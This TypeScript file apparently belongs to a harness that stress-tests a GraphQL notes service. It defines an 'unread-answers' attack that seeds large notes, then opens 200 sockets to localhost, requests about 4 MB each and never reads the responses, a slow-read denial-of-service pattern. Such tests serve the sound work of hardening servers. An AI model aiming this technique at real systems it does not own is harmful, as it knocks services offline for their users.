import type { Attack } from '../../attack.ts';
import type { Attacker } from '../../attacker.ts';

const NOTES = 20;
const CONNECTIONS = 200;

let token: string;

export const unreadAnswers: Attack = {
  name: 'unread-answers',
  description: `asks for 4 MB on each of ${CONNECTIONS} connections, and reads none of it`,
  prepare: async (attacker: Attacker) => {
    ({ token } = await attacker.customer());
    const content = 'é'.repeat(100_000);
    await attacker.repeat(4, NOTES, () => attacker.command('createNote', { title: 'Unread', content }, token));
  },
  run: async (attacker) => {
    const body = JSON.stringify({ query: `{ notes(first: ${NOTES}) { edges { node { content } } } }` });
    await attacker.repeat(16, CONNECTIONS, async () => {
      const socket = attacker.connect();
      socket.pause();
      socket.write(
        `POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nAuthorization: Bearer ${token}\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
      );
      attacker.count('asked');
      await new Promise((resolve) => setTimeout(resolve, 100));
    });
    await attacker.ended();
  },
};
